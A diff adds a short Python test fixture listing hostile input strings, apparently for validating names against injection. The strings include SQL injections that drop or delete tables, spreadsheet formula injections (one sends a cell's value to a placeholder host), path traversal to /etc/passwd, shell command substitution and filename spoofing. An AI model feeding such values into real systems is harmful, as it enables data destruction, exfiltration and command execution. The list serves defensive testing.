@@ -1,0 +1,28 @@
+"""Names that mean something to a database, a spreadsheet, a shell or a file system."""
+
+HOSTILE = (
+    "x'; DROP TABLE privacy_account; --",
+    'x"; DELETE FROM log_entry; --',
+    "1 OR 1=1",
+    "%",
+    "_",
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("http://x/"&A1)',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "../../../etc/passwd",
+    "/etc/passwd",
+    "..",
+    "a/b",
+    "a\\b",
+    "C:\\x",
+    "$(touch x)",
+    "`touch x`",
+    "a\nb",
+    "a\x00b",
+    "\u202egnp.exe",
+    "ä" * 300,
+    "",
+)
